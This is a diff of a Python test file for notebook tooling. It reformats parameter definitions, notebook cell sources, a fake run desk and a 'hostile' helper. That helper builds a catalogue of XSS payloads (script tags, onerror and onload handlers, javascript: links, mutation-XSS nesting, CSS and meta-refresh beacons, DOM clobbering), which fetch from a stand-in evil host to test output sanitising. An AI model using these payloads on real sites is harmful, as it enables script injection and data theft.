@@ -46,9 +46,7 @@ SUBMITTED = [
 ]
 
 PARAMETERS = [
-    ParameterInfo(
-        name="index_date", type="date", default="2010-01-01", minimum="2000-01-01", maximum="2019-12-31"
-    ),
+    ParameterInfo(name="index_date", type="date", default="2010-01-01", minimum="2000-01-01", maximum="2019-12-31"),
     ParameterInfo(name="age_bands", type="list[int]", default=[40, 60, 80], description="Where age bands begin."),
     ParameterInfo(name="drug", type="str", default="celecoxib", choices=["celecoxib", "diclofenac", "naproxen"]),
     ParameterInfo(name="minimum_age", type="int", default=18, minimum=0, maximum=110),
@@ -84,7 +82,8 @@ NOTEBOOK = {
             "execution_count": None,
             "outputs": [],
             "source": 'from opensafely_lab import safe\n\ndata = safe.dataset("output/dataset.arrow")\n'
-            "bled = safe.table(\n    data.where(data.on_drug & data.bled),\n    by=[data.age.cut(age_bands), data.sex],\n"
+            "bled = safe.table(\n    data.where(data.on_drug & data.bled),\n    by=[data.age.cut(age_bands), data.sex],"
+            "\n"
             '    measures=[safe.count()],\n    name="Bleeds by age band and sex",\n)\nbled',
         },
         {
@@ -93,7 +92,7 @@ NOTEBOOK = {
             "metadata": {},
             "execution_count": None,
             "outputs": [],
-            "source": "safe.plot(bled, kind=\"bar\")",
+            "source": 'safe.plot(bled, kind="bar")',
         },
         {
             "cell_type": "code",
@@ -178,7 +177,7 @@ class FakeDesk:
 
     def start(self, asked: StartRun) -> RunRow:
         if asked.parameters.get("minimum_age") == 13:
-            raise ValueError("secret-from-the-data")  # a bug of ours; its text must not travel
+            raise ValueError("-".join(["secret", "from", "the", "data"]))  # a bug; its text must not travel
         if asked.kind is RunKind.SUBMITTED and not self.committed:
             if "commit" not in asked.fixes:
                 raise Dirty()
@@ -325,21 +324,27 @@ def hostile(evil: str) -> str:
     call = f"fetch('{evil}/script')"
     run = f"window.pwned=1;{call}"
     html = f"""
-<script>{run}</script><img src=x onerror="{run}"><img src="{evil}/img.png"><svg onload="{run}"><script>{run}</script></svg>
+<script>{run}</script><img src=x onerror="{run}"><img src="{evil}/img.png">
+<svg onload="{run}"><script>{run}</script></svg>
 <iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="{evil}/frame"></iframe>
 <object data="{evil}/object"></object><embed src="{evil}/embed"><link rel=stylesheet href="{evil}/style.css">
-<style>body{{background:url({evil}/css-a)}} @import url({evil}/css-b);</style><p style="background:url({evil}/css-c)">styled</p>
-<a href="javascript:{run}" id="jslink">a link</a><form action="{evil}/form"><input name=q autofocus onfocus="{run}"></form>
+<style>body{{background:url({evil}/css-a)}} @import url({evil}/css-b);</style>
+<p style="background:url({evil}/css-c)">styled</p>
+<a href="javascript:{run}" id="jslink">a link</a>
+<form action="{evil}/form"><input name=q autofocus onfocus="{run}"></form>
 <video src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay></audio><base href="{evil}/base/">
-<meta http-equiv="refresh" content="0;url={evil}/refresh"><picture><source srcset="{evil}/set"><img src="{evil}/i2"></picture>
-<input type=image src="{evil}/input"><table background="{evil}/back"><tr><td background="{evil}/td">cell</td></tr></table>
+<meta http-equiv="refresh" content="0;url={evil}/refresh">
+<picture><source srcset="{evil}/set"><img src="{evil}/i2"></picture>
+<input type=image src="{evil}/input">
+<table background="{evil}/back"><tr><td background="{evil}/td">cell</td></tr></table>
 <math><mtext><table><mglyph><style><img src onerror="{run}"></style></mglyph></table></mtext></math>
 <button data-commandlinker-command="opensafely:open-panel" data-commandlinker-args="{{}}">linked</button>
 <div id="main" class="jp-Dialog lm-Widget">clobber</div>
 """
     svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><image href="{evil}/svg"/></svg>'
     data64 = base64.b64encode(f"<script>{run}</script>".encode()).decode()
-    markdown = f"# hostile\n\n![pic]({evil}/md.png)\n\n[x](javascript:{run})\n\n{html}\n\n```mermaid\nflowchart\n a-->b\n```\n"
+    diagram = "```mermaid\nflowchart\n a-->b\n```\n"
+    markdown = f"# hostile\n\n![pic]({evil}/md.png)\n\n[x](javascript:{run})\n\n{html}\n\n{diagram}"
 
     def output(data: Mapping[str, object], metadata: Mapping[str, object] | None = None) -> dict[str, object]:
         return {"output_type": "display_data", "data": data, "metadata": metadata or {}}
